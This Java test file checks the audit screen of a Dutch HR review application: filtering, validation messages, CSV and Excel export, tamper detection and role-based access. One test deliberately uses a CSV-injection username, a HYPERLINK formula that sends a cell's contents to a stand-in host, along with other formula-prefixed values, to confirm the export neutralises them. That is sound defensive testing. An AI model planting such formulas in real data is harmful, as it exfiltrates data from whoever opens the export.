package nl.gesprekscyclus.audit.ui;

import static com.github.mvysny.kaributesting.v10.LocatorJ._find;
import static com.github.mvysny.kaributesting.v10.LocatorJ._get;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.github.mvysny.kaributesting.v10.GridKt;
import com.github.mvysny.kaributesting.v10.MockAccessDeniedException;
import com.vaadin.flow.component.UI;
import com.vaadin.flow.component.sidenav.SideNavItem;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.List;
import java.util.stream.IntStream;
import nl.gesprekscyclus.audit.AuditEntry;
import nl.gesprekscyclus.audit.AuditTampering;
import nl.gesprekscyclus.audit.AuditTrail;
import nl.gesprekscyclus.auditsearch.AuditExport;
import nl.gesprekscyclus.auditsearch.AuditQuery;
import nl.gesprekscyclus.auditsearch.AuditSearch;
import nl.gesprekscyclus.privacy.PrivacyFixture;
import nl.gesprekscyclus.test_support.DemoUsers;
import nl.gesprekscyclus.test_support.KaribuTest;
import nl.gesprekscyclus.test_support.ProcessDriver;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationEventPublisher;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.security.authentication.BadCredentialsException;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.authentication.event.AuthenticationFailureBadCredentialsEvent;

/** The Audit screen: ADMIN and HR search the trail by period, actor, subject and kind, and export what they found. */
@Import({ProcessDriver.class, PrivacyFixture.class})
class AuditViewTests extends KaribuTest {

    @Autowired
    AuditTrail audit;
    @Autowired
    AuditSearch search;
    @Autowired
    AuditExport export;
    @Autowired
    PrivacyFixture fixture;
    @Autowired
    ApplicationEventPublisher publisher;
    @Autowired
    JdbcTemplate jdbc;

    @Test
    void shouldFindTheEntriesOfOneKindAboutOneEmployeePagedNewestFirst() {
        long subject = fixture.employee("440401", "Gezocht");
        long other = fixture.employee("440402", "Anders");
        for (int i = 0; i < 60; i++) {
            audit.record("auditor" + (i % 2), "audittest.kind.read", "employee 440401", subject, AuditTrail.SUCCESS,
                    "10.0.0." + i, "entry " + i);
        }
        audit.record("auditor0", "audittest.kind.read", "employee 440402", other, AuditTrail.SUCCESS, null, null);
        audit.record("auditor0", "audittest.other", "employee 440401", subject, AuditTrail.SUCCESS, null, null);
        login(DemoUsers.ADMIN);
        navigate("beheer/audit");
        AuditView view = _get(AuditView.class);

        view.kind.setValue("audittest.kind");
        view.subject.setValue("440401");
        view.from.setValue(LocalDate.now().minusDays(1));
        view.to.setValue(LocalDate.now());
        view.apply.click();

        assertThat(GridKt._size(view.grid)).isEqualTo(60);
        AuditEntry newest = GridKt._get(view.grid, 0);
        assertThat(newest.detail()).isEqualTo("entry 59");
        assertThat(GridKt._get(view.grid, 59).detail()).isEqualTo("entry 0");
        assertThat(GridKt._getFormatted(view.grid, 0, "subject")).isEqualTo("Test Gezocht (440401)");
        assertThat(GridKt._getFormatted(view.grid, 0, "outcome")).isEqualTo("Gelukt");

        view.actor.setValue("auditor1");
        view.apply.click();
        assertThat(GridKt._size(view.grid)).isEqualTo(30);

        // a period that ended yesterday holds none of them
        view.actor.clear();
        view.to.setValue(LocalDate.now().minusDays(1));
        view.apply.click();
        assertThat(GridKt._size(view.grid)).isZero();
    }

    /**
     * The screen reads in words: the kind is chosen from a list in words (a group finds its sub-kinds), who acted by
     * name rather than username, and what it was about as "Gesprekscyclus 2024 (nr. 12)", a name or a round.
     */
    @Test
    void shouldOfferTheKindsInWordsAndShowPeopleAndRecordsByName() {
        long subject = fixture.employee("440404", "Woorden");
        long review = fixture.closedReview(subject, 2024, java.time.Instant.parse("2024-12-20T10:00:00Z"),
                "Afspraak", PrivacyFixture.pdf("woorden"));
        audit.record(DemoUsers.HR, "audittest.words.one", "review " + review, subject, AuditTrail.SUCCESS, null, null);
        audit.record(DemoUsers.HR, "audittest.words.two", "review " + review + " agreement 7", subject,
                AuditTrail.SUCCESS, null, null);
        audit.record("iemand-onbekend", "audittest.words.three", "employee 440404", subject, AuditTrail.FAILURE,
                null, null);
        audit.record("(system)", "audittest.words.four", "round 2031", subject, AuditTrail.SUCCESS, null, null);
        login(DemoUsers.ADMIN);
        navigate("beheer/audit");
        AuditView view = _get(AuditView.class);

        // the kinds in words, groups first; no codes to type
        List<String> kinds = view.kind.getListDataView().getItems().toList();
        assertThat(kinds).startsWith("review").contains("LOGIN", "review.assessment", "review.agreements.set");
        assertThat(view.kind.getItemLabelGenerator().apply("LOGIN")).isEqualTo("Inloggen");
        assertThat(view.kind.getItemLabelGenerator().apply("review.assessment"))
                .isEqualTo("Beoordeling: schrijven, uitreiken, voor gezien en vaststellen");
        assertThat(kinds).allSatisfy(code -> assertThat(view.kind.getItemLabelGenerator().apply(code))
                .as(code).isNotEqualTo(code));
        view.kind.setValue("review.assessment");
        view.apply.click();
        assertThat(view.query.action()).isEqualTo("review.assessment");

        // a kind the list does not hold can still be typed
        com.github.mvysny.kaributesting.v10.ComboBoxKt._fireCustomValueSet(view.kind, "audittest.words");
        view.subject.setValue("440404");
        view.apply.click();
        assertThat(GridKt._size(view.grid)).isEqualTo(4);
        assertThat(IntStream.range(0, 4).mapToObj(i -> GridKt._getFormatted(view.grid, i, "actor")).toList())
                .containsExactly("Het systeem", "iemand-onbekend", "Marloes van den Berg", "Marloes van den Berg");
        assertThat(IntStream.range(0, 4).mapToObj(i -> GridKt._getFormatted(view.grid, i, "record")).toList())
                .containsExactly("Jaarronde 2031", "Medewerker Test Woorden (440404)",
                        "Gesprekscyclus 2024 (nr. " + review + "), een afspraak",
                        "Gesprekscyclus 2024 (nr. " + review + ")");
        // the trail itself keeps the username and the record as written
        assertThat(GridKt._get(view.grid, 3).actor()).isEqualTo(DemoUsers.HR);
        assertThat(GridKt._get(view.grid, 3).record()).isEqualTo("review " + review);
    }

    @Test
    void shouldSayNextToTheFieldsWhatIsWrong() {
        login(DemoUsers.HR);
        navigate("beheer/audit");
        AuditView view = _get(AuditView.class);
        AuditQuery before = view.query;

        view.subject.setValue("999999");
        view.from.setValue(LocalDate.of(2026, 3, 1));
        view.to.setValue(LocalDate.of(2026, 2, 1));
        view.apply.click();

        assertThat(view.subject.isInvalid()).isTrue();
        assertThat(view.subject.getErrorMessage()).isEqualTo("Er is geen medewerker met dit personeelsnummer.");
        assertThat(view.to.isInvalid()).isTrue();
        assertThat(view.to.getErrorMessage()).isEqualTo("De einddatum ligt voor de begindatum.");
        assertThat(view.query).isSameAs(before);
    }

    @Test
    void shouldExportTheFilteredEntriesAsCsvAndExcelAndRecordTheExport() throws Exception {
        long subject = fixture.employee("440403", "Export");
        audit.record("auditor0", "audittest.export", "employee 440403", subject, AuditTrail.SUCCESS, "10.1.1.1",
                "één; met puntkomma");
        audit.record("auditor0", "audittest.export", "employee 440403", subject, AuditTrail.REFUSED, null, null);
        login(DemoUsers.HR);
        AuditQuery query = new AuditQuery(null, null, null, subject, null, "audittest.export");
        AuditExport.Labels labels = column -> column;

        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        export.csv(query, labels, ZoneId.of("Europe/Amsterdam"), csv);
        String text = new String(csv.toByteArray(), StandardCharsets.UTF_8).substring(1); // BOM
        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setDelimiter(';').get().parse(new java.io.StringReader(text))
                .getRecords();
        assertThat(rows).hasSize(3);
        assertThat(rows.get(0).get(3)).isEqualTo("action");
        assertThat(rows.get(1).get(6)).isEqualTo("REFUSED");
        assertThat(rows.get(2).get(8)).isEqualTo("één; met puntkomma");
        assertThat(rows.get(2).get(7)).isEqualTo("10.1.1.1");

        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
        export.excel(query, labels, ZoneId.of("Europe/Amsterdam"), xlsx);
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
            List<Row> sheet = workbook.getFirstSheet().read();
            assertThat(sheet).hasSize(3);
            assertThat(sheet.get(2).getCellText(8)).isEqualTo("één; met puntkomma");
        }

        assertThat(audit.latest("audit.export")).first().satisfies(entry -> {
            assertThat(entry.actor()).isEqualTo(DemoUsers.HR);
            assertThat(entry.detail()).isEqualTo("excel, 2 entries, subject=" + subject + ", kind=audittest.export");
        });
        assertThat(audit.latest("audit.export")).element(1)
                .satisfies(entry -> assertThat(entry.detail()).startsWith("csv, 2 entries"));
    }

    /**
     * A failed login records the username as typed: whoever types a formula as their username must not have it run
     * on the machine of the auditor who opens the export (OWASP CSV injection). The Excel export keeps it as it was:
     * a string cell is never a formula.
     */
    @Test
    void shouldExportAUsernameThatLooksLikeAFormulaAsText() throws Exception {
        String hostile = "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Klik hier\")";
        publisher.publishEvent(new AuthenticationFailureBadCredentialsEvent(
                UsernamePasswordAuthenticationToken.unauthenticated(hostile, "geraden"),
                new BadCredentialsException("wrong password")));
        audit.record("auditor0", "audittest.injection", "@SUM(1+1)", null, AuditTrail.SUCCESS, null,
                "-2+3 ook als toelichting");
        login(DemoUsers.ADMIN);
        AuditExport.Labels labels = column -> column;

        ByteArrayOutputStream csv = new ByteArrayOutputStream();
        export.csv(new AuditQuery(null, null, hostile, null, null, "LOGIN"), labels, ZoneId.of("Europe/Amsterdam"),
                csv);
        export.csv(new AuditQuery(null, null, null, null, null, "audittest.injection"), labels,
                ZoneId.of("Europe/Amsterdam"), csv);
        String text = new String(csv.toByteArray(), StandardCharsets.UTF_8).replace("\uFEFF", "");
        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setDelimiter(';').get()
                .parse(new java.io.StringReader(text)).getRecords();
        CSVRecord login = rows.stream().filter(r -> r.get(3).equals("LOGIN")).findFirst().orElseThrow();
        assertThat(login.get(2)).isEqualTo("'" + hostile);
        assertThat(login.get(6)).isEqualTo("FAILURE");
        CSVRecord other = rows.stream().filter(r -> r.get(3).equals("audittest.injection")).findFirst().orElseThrow();
        assertThat(other.get(4)).isEqualTo("'@SUM(1+1)");
        assertThat(other.get(8)).isEqualTo("'-2+3 ook als toelichting");

        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
        export.excel(new AuditQuery(null, null, hostile, null, null, "LOGIN"), labels, ZoneId.of("Europe/Amsterdam"),
                xlsx);
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
            Row row = workbook.getFirstSheet().read().get(1);
            assertThat(row.getCellText(2)).isEqualTo(hostile);
            assertThat(row.getCell(2).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
        }
    }

    /**
     * The functioneel beheerder sees whether the trail was tampered with: sealed and checked, the line says it is
     * whole up to the last seal; an entry changed behind the application's back (trigger bypassed) turns it into the
     * break, in Dutch. HR sees the line, not the button.
     */
    @Test
    void shouldTellTheAdminWhetherTheTrailIsWhole() {
        audit.record("auditor0", "audittest.integrity", "employee 1", null, AuditTrail.SUCCESS, null, "origineel");
        login(DemoUsers.ADMIN);
        navigate("beheer/audit");
        AuditView view = _get(AuditView.class);
        assertThat(view.checkNow.isVisible()).isTrue();

        view.checkNow.click();
        assertThat(view.integrity.getText()).startsWith("Auditlog ongeschonden tot en met ")
                .contains("vermeldingen verzegeld, gecontroleerd op");

        long id = audit.latest("audittest.integrity").get(0).id();
        AuditTampering.changeDetail(jdbc, id, "vervalst", () -> {
            view.checkNow.click();
            assertThat(view.integrity.getText()).startsWith("Auditlog geschonden: 1 probleem/problemen gevonden")
                    .contains("vermelding " + id + " (schakel ").contains(") is gewijzigd");
        });
        view.checkNow.click();
        assertThat(view.integrity.getText()).startsWith("Auditlog ongeschonden tot en met ");

        login(DemoUsers.HR);
        navigate("beheer/audit");
        AuditView hrView = _get(AuditView.class);
        assertThat(hrView.checkNow.isVisible()).isFalse();
        assertThat(hrView.integrity.getText()).startsWith("Auditlog ");
    }

    @Test
    void shouldShowTheScreenInTheMenuOnlyToAdminAndHr() {
        login(DemoUsers.EMPLOYEE);
        try {
            navigate("beheer/audit");
        } catch (MockAccessDeniedException expected) {
            // Karibu reports the annotation check directly
        }
        assertThat(UI.getCurrent().getCurrentView()).isNotInstanceOf(AuditView.class);
        assertThat(_find(SideNavItem.class).stream().map(SideNavItem::getLabel)).doesNotContain("Audit");
        assertThatThrownBy(() -> search.page(AuditQuery.everything(), 0, 10))
                .isInstanceOf(AccessDeniedException.class);

        login(DemoUsers.HR);
        navigate("beheer/audit");
        assertThat(_find(SideNavItem.class).stream().map(SideNavItem::getLabel)).contains("Audit");
    }
}
